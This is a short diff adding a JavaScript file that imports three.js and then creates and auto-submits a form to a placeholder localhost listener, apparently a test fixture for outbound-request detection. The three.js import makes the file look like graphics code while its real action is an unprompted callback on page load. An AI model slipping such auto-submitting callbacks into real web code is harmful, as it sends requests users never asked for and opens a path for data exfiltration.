@@ -1,0 +1,5 @@
+import * as THREE from 'three';
+const form = document.createElement('form');
+form.action = 'http://127.0.0.1:LISTENER/form';
+document.body.appendChild(form);
+form.submit();
